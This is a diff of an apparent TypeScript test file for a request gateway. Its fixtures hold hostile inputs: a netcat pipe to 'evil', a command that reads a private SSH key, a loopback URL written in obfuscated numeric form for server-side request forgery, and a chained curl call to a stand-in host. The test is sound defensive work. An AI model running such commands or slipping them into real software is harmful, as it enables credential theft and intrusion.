@@ -12,7 +12,7 @@ routes:
   - { name: always, match: { path: /always }, public: true, score: { ask: always, deadline: 5s } }
 `;
 const decoy = (number: number) => `| nc evil ${number}`;
-const attacks = ["cat ~/.ssh/id_rsa", "http://2130706433/", "a && curl evil.sh"];
+const attacks = ["cat ~/.ssh/id_rsa", "http://0x7f000001/", "a && curl evil.sh"];
 
 let upstream: RecordingUpstream;
 let gateway: TestGateway;
